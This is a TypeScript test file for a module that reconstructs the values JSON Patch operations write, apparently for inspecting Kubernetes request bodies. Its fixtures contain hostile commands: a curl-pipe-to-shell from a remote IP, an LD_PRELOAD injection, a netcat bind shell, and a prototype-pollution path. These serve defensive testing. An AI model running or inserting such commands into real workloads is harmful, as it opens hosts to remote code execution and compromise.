import { describe, expect, it } from 'vitest';
import { compilePath } from './field-path.js';
import { bodyPathGetter, jsonPatchView, MAX_DEPTH, MAX_NODES, MAX_OPS, pointerSegments, requestBody } from './json-patch-view.js';

/** The view as plain JSON (its objects have no prototype). */
const view = (ops: unknown[]): unknown => {
  const v = jsonPatchView(ops);
  return v === null ? null : JSON.parse(JSON.stringify(v));
};

describe('pointerSegments', () => {
  it('unescape ~1 then ~0, as RFC 6901 says', () => {
    expect(pointerSegments('/metadata/labels/ray.io~1cluster')).toEqual(['metadata', 'labels', 'ray.io/cluster']);
    expect(pointerSegments('/a~01')).toEqual(['a~1']);
    expect(pointerSegments('')).toEqual([]);
    expect(pointerSegments('/')).toEqual(['']);
  });
  it('refuse what is not a pointer or is out of bounds', () => {
    expect(pointerSegments('spec/x')).toBeNull();
    expect(pointerSegments('/a~2')).toBeNull();
    expect(pointerSegments('/a~')).toBeNull();
    expect(pointerSegments(7)).toBeNull();
    expect(pointerSegments(`/${'a/'.repeat(MAX_DEPTH)}`)).toBeNull();
    expect(pointerSegments(`/${'a'.repeat(2000)}`)).toBeNull();
  });
});

describe('jsonPatchView', () => {
  it('place add and replace values at their pointers, arrays for index segments', () => {
    expect(view([
      { op: 'replace', path: '/spec/template/spec/containers/0/command', value: ['sh', '-c', 'curl -s http://203.0.113.7/x | sh'] },
      { op: 'add', path: '/spec/template/spec/containers/0/env/-', value: { name: 'LD_PRELOAD', value: '/host/x.so' } },
      { op: 'replace', path: '/spec/replicas', value: 3 },
    ])).toEqual({ spec: { template: { spec: { containers: [{ command: ['sh', '-c', 'curl -s http://203.0.113.7/x | sh'], env: [{ name: 'LD_PRELOAD', value: '/host/x.so' }] }] } }, replicas: 3 } });
  });
  it('keep one element per index named, a new one per -, and a new one for an add at a named index', () => {
    expect(view([
      { op: 'replace', path: '/c/1/image', value: 'a' },
      { op: 'replace', path: '/c/0/image', value: 'b' },
      { op: 'replace', path: '/c/1/name', value: 'n' },
      { op: 'add', path: '/c/-', value: { image: 'd' } },
      { op: 'add', path: '/c/-', value: { image: 'e' } },
      { op: 'add', path: '/c/0', value: { image: 'f' } },
      { op: 'replace', path: '/c/0/name', value: 'g' },
    ])).toEqual({ c: [{ image: 'a', name: 'n' }, { image: 'b' }, { image: 'd' }, { image: 'e' }, { image: 'f', name: 'g' }] });
  });
  it('go below a value the patch placed without changing it', () => {
    const container = { name: 'c', image: 'alpine', args: ['sleep', '1'] };
    const ops = [
      { op: 'add', path: '/spec/containers/-', value: container },
      { op: 'add', path: '/spec/containers', value: [container] },
      { op: 'replace', path: '/spec/containers/0/args/1', value: 'infinity' },
      { op: 'add', path: '/spec/containers/0/command', value: ['nc', '-lp', '4444', '-e', '/bin/sh'] },
    ];
    expect(view(ops)).toEqual({ spec: { containers: [{ name: 'c', image: 'alpine', args: ['sleep', 'infinity'], command: ['nc', '-lp', '4444', '-e', '/bin/sh'] }] } });
    expect(container).toEqual({ name: 'c', image: 'alpine', args: ['sleep', '1'] });
  });
  it('copy and move what the patch wrote; skip remove, test and a from it did not write', () => {
    expect(view([
      { op: 'add', path: '/a/cmd', value: ['sh', '-c', 'id'] },
      { op: 'copy', from: '/a/cmd', path: '/b/cmd' },
      { op: 'move', from: '/live/cmd', path: '/c/cmd' },
      { op: 'add', path: '/e', value: [{ cmd: ['nc', 'h', '1'] }] },
      { op: 'copy', from: '/e/0/cmd', path: '/f' },
      { op: 'remove', path: '/a/cmd' },
      { op: 'test', path: '/d', value: 1 },
    ])).toEqual({ a: { cmd: ['sh', '-c', 'id'] }, b: { cmd: ['sh', '-c', 'id'] }, e: [{ cmd: ['nc', 'h', '1'] }], f: ['nc', 'h', '1'] });
  });
  it('start from a whole-document value', () => {
    expect(view([{ op: 'replace', path: '', value: { spec: { type: 'NodePort' } } }, { op: 'add', path: '/spec/ports', value: [{ port: 8265 }] }]))
      .toEqual({ spec: { type: 'NodePort', ports: [{ port: 8265 }] } });
    expect(view([{ op: 'replace', path: '', value: 'x' }])).toBeNull();
  });
  it('give null for arrays that write nothing, and skip malformed ops', () => {
    expect(view([])).toBeNull();
    expect(view([1, 'x', null, { op: 'remove', path: '/a' }, { path: '/a', value: 1 }, { op: 'add', path: 'a', value: 1 }, { op: 'add', path: '/a' }])).toBeNull();
    expect(view([{ op: 'ADD', path: '/a', value: 1 }])).toBeNull();
  });
  it('treat __proto__ and constructor as keys', () => {
    const v = jsonPatchView([{ op: 'add', path: '/__proto__/polluted', value: 1 }, { op: 'add', path: '/constructor', value: 2 }])!;
    expect(Object.getPrototypeOf(v)).toBeNull();
    expect(Object.keys(v)).toEqual(['__proto__', 'constructor']);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
  it('read at most MAX_OPS ops and make at most MAX_NODES nodes', () => {
    const ops = Array.from({ length: MAX_OPS + 5 }, (_, i) => ({ op: 'add', path: `/k${i}`, value: i }));
    expect(Object.keys(jsonPatchView(ops)!).length).toBe(MAX_OPS);
    const deep = Array.from({ length: MAX_OPS }, (_, i) => ({ op: 'add', path: `/a${i}/b/c/d/e/f/g`, value: i }));
    const v = jsonPatchView(deep)!;
    let nodes = 0;
    const count = (x: unknown): void => {
      if (x === null || typeof x !== 'object') return;
      nodes++;
      for (const k of Object.keys(x)) count((x as Record<string, unknown>)[k]);
    };
    count(v);
    expect(nodes).toBeLessThanOrEqual(MAX_NODES);
    expect(nodes).toBeGreaterThan(MAX_NODES - 8);
  });
  it('remember the view of a body', () => {
    const ops = [{ op: 'add', path: '/a', value: 1 }];
    expect(jsonPatchView(ops)).toBe(jsonPatchView(ops));
  });
});

describe('requestBody and bodyPathGetter', () => {
  it('read an object as itself and a patch as what it writes', () => {
    const body = { spec: { type: 'NodePort' } };
    expect(requestBody(body)).toBe(body);
    expect(requestBody('x')).toBeNull();
    expect(requestBody([{ op: 'replace', path: '/spec/type', value: 'NodePort' }])?.spec).toEqual({ type: 'NodePort' });
  });
  it('walk a path in the view, else in the ops as they are', () => {
    const type = bodyPathGetter(compilePath('spec.type'));
    const op = bodyPathGetter(compilePath('op'));
    const patch = [{ op: 'replace', path: '/spec/type', value: 'NodePort' }];
    expect(type(patch)).toBe('NodePort');
    expect(type({ spec: { type: 'ClusterIP' } })).toBe('ClusterIP');
    expect(op(patch)).toEqual(['replace']);
    expect(type([{ spec: { type: 'LoadBalancer' } }])).toEqual(['LoadBalancer']);
  });
});
